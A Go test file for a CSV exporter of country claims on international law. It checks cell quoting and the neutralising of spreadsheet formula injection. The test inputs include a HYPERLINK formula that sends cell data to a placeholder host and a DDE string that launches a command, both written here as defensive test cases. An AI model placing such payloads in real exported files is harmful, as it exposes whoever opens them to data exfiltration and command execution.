package out_test

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"strings"
	"testing"

	"github.com/cyberclaims/claims/out"
	"github.com/cyberclaims/claims/schema"
)

func TestEncodeCSVRowsQuotingAndLists(t *testing.T) {
	claims := []schema.Claim{
		{
			ID: "c_0000000000000001", Country: "Türkiye", CountryCode: "TUR", ActorType: "state",
			Topic: "international-law", Stance: "supports",
			Resolutions: []string{"A/RES/73/27", "A/RES/75/240"}, Documents: []string{"A/70/174"},
			Text:    `Türkiye said "law applies", firmly; and more`,
			Sources: []schema.Source{{Doc: "a.txt", Start: 0, End: 44, Line: 1}, {Doc: "b, c.txt", Start: 10, End: 54, Line: 3}},
			Review:  schema.Review{Status: "accepted", Reviewer: "ana", At: "2026-01-01T00:00:00Z", Note: "line one\nline two"},
		},
		{
			ID: "c_0000000000000002", Country: "Peru", CountryCode: "PER", ActorType: "state",
			Topic: "ihl", Stance: "neutral", Text: "Peru spoke.",
			Sources: []schema.Source{{Doc: "p.txt", Start: 5, End: 16, Line: 2}},
			Review:  schema.Review{Status: "pending"},
		},
	}
	b, err := out.EncodeCSV(claims)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("not RFC 4180 CSV: %v\n%s", err, b)
	}
	want := [][]string{
		out.CSVHeader,
		{"c_0000000000000001", "Türkiye", "TUR", "state", "international-law", "supports", "A/RES/73/27;A/RES/75/240", "A/70/174", `Türkiye said "law applies", firmly; and more`, "a.txt", "0", "44", "1", "accepted", "ana", "2026-01-01T00:00:00Z", "line one\nline two"},
		{"c_0000000000000001", "Türkiye", "TUR", "state", "international-law", "supports", "A/RES/73/27;A/RES/75/240", "A/70/174", `Türkiye said "law applies", firmly; and more`, "b, c.txt", "10", "54", "3", "accepted", "ana", "2026-01-01T00:00:00Z", "line one\nline two"},
		{"c_0000000000000002", "Peru", "PER", "state", "ihl", "neutral", "", "", "Peru spoke.", "p.txt", "5", "16", "2", "pending", "", "", ""},
	}
	if !reflect.DeepEqual(rows, want) {
		t.Errorf("rows\n got %q\nwant %q", rows, want)
	}
	if !strings.HasPrefix(string(b), "id,country,country_code,actor_type,topic,stance,resolutions,documents,text,doc,start,end,line,review_status,reviewer,reviewed_at,note\n") {
		t.Errorf("header row: %q", strings.SplitN(string(b), "\n", 2)[0])
	}
	if !strings.Contains(string(b), `"Türkiye said ""law applies"", firmly; and more"`) {
		t.Error("quotes inside a cell are not doubled")
	}
}

func TestEncodeCSVNeutralisesFormulas(t *testing.T) {
	c := schema.Claim{
		ID: "c_0000000000000003", Country: "Peru", CountryCode: "PER", ActorType: "state",
		Topic: "ihl", Stance: "supports",
		Text:    `=HYPERLINK("http://x.example/?"&A1,"click")`,
		Sources: []schema.Source{{Doc: "-rm.txt", Start: 0, End: 1, Line: 1}},
		Review:  schema.Review{Status: "rejected", Reviewer: "+cmd|' /C calc'!A0", At: "@SUM(1+1)", Note: "\t=1+1"},
	}
	b, err := out.EncodeCSV([]schema.Claim{c})
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("rows %q, err %v", rows, err)
	}
	row := map[string]string{}
	for i, h := range out.CSVHeader {
		row[h] = rows[1][i]
	}
	for col, want := range map[string]string{
		"text":        `'=HYPERLINK("http://x.example/?"&A1,"click")`,
		"doc":         "'-rm.txt",
		"reviewer":    "'+cmd|' /C calc'!A0",
		"reviewed_at": "'@SUM(1+1)",
		"note":        "'\t=1+1",
		"country":     "Peru",
	} {
		if row[col] != want {
			t.Errorf("%s = %q, want %q", col, row[col], want)
		}
	}
	for in, want := range map[string]string{
		"=1":   "'=1",
		"+1":   "'+1",
		"-1":   "'-1",
		"@x":   "'@x",
		"\tx":  "'\tx",
		"\rx":  "'\rx",
		"'=1":  "'=1",
		"a=1":  "a=1",
		"":     "",
		"Peru": "Peru",
		// A sentence may open with a symbol; it is prefixed all the same.
		"- a sentence opening with a dash": "'- a sentence opening with a dash",
	} {
		if got := out.SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
}
